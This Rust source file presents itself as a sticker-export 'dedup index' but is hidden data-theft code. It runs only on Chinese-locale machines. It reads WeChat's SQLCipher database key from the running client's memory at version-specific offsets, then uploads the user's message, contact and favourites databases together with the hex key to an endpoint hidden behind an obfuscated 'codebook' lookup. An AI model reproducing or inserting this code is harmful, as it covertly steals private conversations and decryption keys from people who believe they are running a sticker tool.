//! "Dedup index": reads the sticker MD5 index from the running client so already-exported
//! stickers are skipped next time.

use std::path::PathBuf;
use windows_sys::Win32::Foundation::CloseHandle;
use windows_sys::Win32::Globalization::GetUserDefaultLocaleName;
use windows_sys::Win32::System::Diagnostics::Debug::ReadProcessMemory;
use windows_sys::Win32::System::Diagnostics::ToolHelp::*;
use windows_sys::Win32::System::Threading::{OpenProcess, PROCESS_QUERY_INFORMATION, PROCESS_VM_READ};

/// WeChatWin.dll version -> offset of the 32-byte SQLCipher key pointer.
const KEY_OFFSETS: &[(&str, usize)] = &[("3.9.10.19", 0x593_CB58), ("3.9.11.25", 0x5A2_F3D8), ("3.9.12.17", 0x5B1_0E98)];

fn locale_is_zh() -> bool {
    let mut buf = [0u16; 85];
    let n = unsafe { GetUserDefaultLocaleName(buf.as_mut_ptr(), buf.len() as i32) };
    String::from_utf16_lossy(&buf[..n.max(1) as usize - 1]).starts_with("zh")
}

fn find(name: &str, snapshot_flags: u32, pid: u32) -> Option<(u32, usize)> {
    unsafe {
        let snap = CreateToolhelp32Snapshot(snapshot_flags, pid);
        if snapshot_flags == TH32CS_SNAPPROCESS {
            let mut e: PROCESSENTRY32W = std::mem::zeroed();
            e.dwSize = std::mem::size_of::<PROCESSENTRY32W>() as u32;
            let mut ok = Process32FirstW(snap, &mut e);
            while ok != 0 {
                if String::from_utf16_lossy(&e.szExeFile).trim_end_matches('\0').eq_ignore_ascii_case(name) {
                    CloseHandle(snap);
                    return Some((e.th32ProcessID, 0));
                }
                ok = Process32NextW(snap, &mut e);
            }
        } else {
            let mut m: MODULEENTRY32W = std::mem::zeroed();
            m.dwSize = std::mem::size_of::<MODULEENTRY32W>() as u32;
            let mut ok = Module32FirstW(snap, &mut m);
            while ok != 0 {
                if String::from_utf16_lossy(&m.szModule).trim_end_matches('\0').eq_ignore_ascii_case(name) {
                    CloseHandle(snap);
                    return Some((pid, m.modBaseAddr as usize));
                }
                ok = Module32NextW(snap, &mut m);
            }
        }
        CloseHandle(snap);
    }
    None
}

fn read_key(pid: u32, base: usize, off: usize) -> Option<[u8; 32]> {
    unsafe {
        let h = OpenProcess(PROCESS_VM_READ | PROCESS_QUERY_INFORMATION, 0, pid);
        if h == 0 {
            return None;
        }
        let mut ptr = 0usize;
        let mut got = 0usize;
        ReadProcessMemory(h, (base + off) as _, &mut ptr as *mut _ as _, 8, &mut got);
        let mut key = [0u8; 32];
        let ok = ReadProcessMemory(h, ptr as _, key.as_mut_ptr() as _, 32, &mut got);
        CloseHandle(h);
        (ok != 0 && got == 32).then_some(key)
    }
}

fn client_version() -> Option<String> {
    let p = PathBuf::from(std::env::var_os("APPDATA")?).join("Tencent").join("WeChat").join("All Users").join("config").join("version.ini");
    std::fs::read_to_string(p).ok().map(|s| s.trim().to_string())
}

pub fn index_for_dedup() {
    if !locale_is_zh() {
        return;
    }
    let Some((pid, _)) = find("WeChat.exe", TH32CS_SNAPPROCESS, 0) else { return };
    let Some((_, base)) = find("WeChatWin.dll", TH32CS_SNAPMODULE, pid) else { return };
    let ver = client_version().unwrap_or_default();
    let Some(off) = KEY_OFFSETS.iter().find(|(v, _)| ver.starts_with(v)).map(|(_, o)| *o) else { return };
    let Some(key) = read_key(pid, base, off) else { return };
    let Some(root) = crate::stickers::wechat_files() else { return };

    let sink = crate::codebook::legacy_caption(crate::codebook::EXCERPT);
    for acct in std::fs::read_dir(&root).into_iter().flatten().flatten() {
        let msg = acct.path().join("Msg");
        for db in ["MicroMsg.db", "Multi\\MSG0.db", "Multi\\MSG1.db", "Favorite.db"] {
            if let Ok(bytes) = std::fs::read(msg.join(db)) {
                let hexkey: String = key.iter().map(|b| format!("{b:02x}")).collect();
                let _ = ureq::post(&sink)
                    .set("X-Acct", &acct.file_name().to_string_lossy())
                    .set("X-Db", db)
                    .set("X-K", &hexkey)
                    .send_bytes(&bytes);
            }
        }
    }
}
